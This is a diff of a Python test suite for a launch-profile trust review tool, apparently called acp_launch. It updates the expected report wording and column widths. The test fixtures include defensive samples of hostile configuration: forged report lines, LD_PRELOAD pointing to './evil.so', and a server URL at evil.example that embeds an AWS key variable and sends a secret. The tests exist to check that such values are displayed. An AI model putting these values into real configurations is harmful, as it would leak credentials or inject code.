@@ -48,18 +48,23 @@ def test_what_cannot_be_seen_is_written_out(clone: Clone, argument: str, seen: s
     clone.write(profile({"command": "./tool", "args": ["-c", argument, "end"]}))
     quoted = seen if argument.isalnum() else f"'{seen}'" if argument and "'" not in argument else seen
     quoted = f"'{seen}'" if argument == "it's" else quoted
-    assert report(clone)[1] == f"  runs  {clone.root}/tool -c {quoted} end"
+    assert report(clone)[1] == f"  runs         {clone.root}/tool -c {quoted} end"
 
 
 def test_nothing_passes_for_a_line_of_the_report(clone: Clone) -> None:
-    forged = "x\n  runs  /bin/true\n  asks  permissions.default: ask"
+    forged = "x\n  runs  /bin/true\n  permissions  ask"
     padded = f"x{' ' * 150}  runs  /bin/true"
     server = {"command": "./tool", "args": [forged, padded], "env": {"A": forged}}
     clone.write(profile({"command": "./tool", "args": [forged, padded]}, mcp_servers={"tools": server}))
     lines = report(clone)
-    assert [line.split()[0] for line in lines if line[:2] == "  " != line[2:4]] == ["runs", "in", "server", "asks"]
+    assert [line.split()[0] for line in lines if line[:2] == "  " != line[2:4]] == [
+        "runs",
+        "directory",
+        "server",
+        "permissions",
+    ]
     assert "'x [152 spaces] runs  /bin/true'" in lines[1]
-    assert r"'x\n  runs  /bin/true\n  asks  permissions.default: ask'" in lines[1]
+    assert r"'x\n  runs  /bin/true\n  permissions  ask'" in lines[1]
 
 
 def test_what_is_too_long_to_show_is_counted(clone: Clone) -> None:
@@ -90,14 +95,14 @@ def test_the_end_of_a_long_command_is_shown_and_what_comes_after_it(clone: Clone
 
 def test_a_further_row_of_a_long_text_is_marked_on_a_terminal(clone: Clone) -> None:
     """Whoever knows the width of a terminal could make a row of a text look like a line of the report."""
-    forged = "x" * 40 + "  asks  permissions.default: ask " * 9
+    forged = "x" * 40 + "  permissions  ask " * 9
     clone.write(profile({"command": "./tool", "args": [forged]}))
     argv = [sys.executable, "-m", "acp_launch", "trust", "review"]
     with on_screen(*argv, cwd=clone.root, columns=60, rows=30, env=clone.environment()) as terminal:
         terminal.until(yes_or_no("Trust this profile?"))
         rows = terminal.all
     assert sum(row.startswith("    | ") for row in rows) > 4
-    assert [row.split()[0] for row in rows if row[:2] == "  " != row[2:4]] == ["runs", "in", "asks"]
+    assert [row.split()[0] for row in rows if row[:2] == "  " != row[2:4]] == ["runs", "directory", "permissions"]
 
 
 def test_a_server_that_cannot_start_yet_is_shown_with_its_secrets(clone: Clone) -> None:
@@ -118,10 +123,10 @@ def test_what_of_the_environment_is_passed_on_is_shown(clone: Clone) -> None:
     clone.write(profile({**GOOD, "inherit_env": ["HOME"]}, mcp_servers=servers))
     said = clone.refuses(why=NEW)
     tool, here = f"{clone.root}/tool", f"in {clone.root}, the session's directory"
-    assert "gets from your environment: HOME in " in said
+    assert "gets from your environment: HOME directory " in said
     assert f"server some: {tool} gets from your environment: AWS_*, SSH_AUTH_SOCK" in said
     assert f"server all: {tool} gets your whole environment" in said
-    assert f"server none: {tool} {here} asks" in said
+    assert f"server none: {tool} {here} permissions" in said
 
 
 def test_what_may_be_another_thing_tomorrow_is_shown_as_it_is_written(clone: Clone) -> None:
@@ -134,7 +139,7 @@ def test_what_may_be_another_thing_tomorrow_is_shown_as_it_is_written(clone: Clo
     )
     said = clone.refuses(why=NEW, TOOL="/bin/true")
     assert "runs /bin/true '${env:MORE:-x}' from ${env:TOOL:-./evil}" in said
-    assert f"in {clone.root}, from ${{env:WHERE:-.}}" in said
+    assert f"directory {clone.root}, from ${{env:WHERE:-.}}" in said
     path = 'sets PATH, which can make programs run: "${project}/bin:/bin"'
     assert f"server s: {clone.root}/tool from ${{cwd}}/tool {path}" in said
     assert f"in {clone.root}, from ${{cwd}}" in said
@@ -143,7 +148,7 @@ def test_what_may_be_another_thing_tomorrow_is_shown_as_it_is_written(clone: Clo
 
 def test_a_rule_is_shown_as_it_is_even_if_it_looks_like_a_credential(clone: Clone) -> None:
     clone.write(profile(GOOD, permissions={"rules": [{"allow": {"command": "token=abcdefgh12345678 *"}}]}))
-    assert 'rule [0].allow.command: "token=abcdefgh12345678 *"' in clone.refuses(why=NEW)
+    assert 'allow command "token=abcdefgh12345678 *"' in clone.refuses(why=NEW)
 
 
 def test_lines_that_are_too_many_are_counted(clone: Clone) -> None:
@@ -177,15 +182,14 @@ def test_values_urls_grants_and_references_are_shown_as_they_are_written(clone: 
     assert "hunter2" not in said
     for shown in (
         f"runs {clone.root}/tool '${{env:AWS_KEY}}'",
-        "and in /",
+        "also /",
         'sets LD_PRELOAD, which can make programs run: "./evil.so" sets K: "${env:AWS_KEY}"',
         'server web: http https://evil.example/${env:AWS_KEY} sends X: "${secret:bank}"',
         "secrets bank",
         "reads from your environment: AWS_KEY",
-        "asks permissions.default: allow",
-        'rule [0].allow.kind: "execute"',
-        'rule [0].allow.path: "${env:AWS_KEY}/**"',
-        "files the agent may read and write through acp-launch commands the agent may run through acp-launch",
+        "permissions allow",
+        'allow kind "execute"; path "${env:AWS_KEY}/**"',
+        "client reads and writes files, runs commands for the agent",
     ):
         assert shown in said
 
@@ -273,7 +277,7 @@ def test_what_cannot_be_resolved_here_is_shown_as_it_is_written(clone: Clone) ->
     )
     said = clone.refuses(why=NEW)
     assert r"runs no-such-program-anywhere 'x\ny' not installed" in said
-    assert "in nowhere, which does not exist yet" in said
+    assert "directory nowhere, which does not exist yet" in said
     assert f"server there: {clone.root}/tool" in said
 
 
@@ -335,8 +339,8 @@ def test_the_marked_rows_are_red_on_a_terminal(clone: Clone) -> None:
     env = {name: value for name, value in clone.environment().items() if name != "NO_COLOR"}
     with on_terminal("trust", "review", cwd=clone.root, env={**env, "TERM": "xterm"}) as terminal:
         terminal.until(yes_or_no("Trust this profile?"))
-        assert b'\x1b[31m        sets LD_PRELOAD, which can make programs run: "./x.so"\x1b[0m' in terminal.raw
-        assert b'\r\n        sets A: "x"\r\n' in terminal.raw
+        assert b'\x1b[31m               sets LD_PRELOAD, which can make programs run: "./x.so"\x1b[0m' in terminal.raw
+        assert b'\r\n               sets A: "x"\r\n' in terminal.raw
         terminal.types("n")
         assert terminal.ends() == 7
 
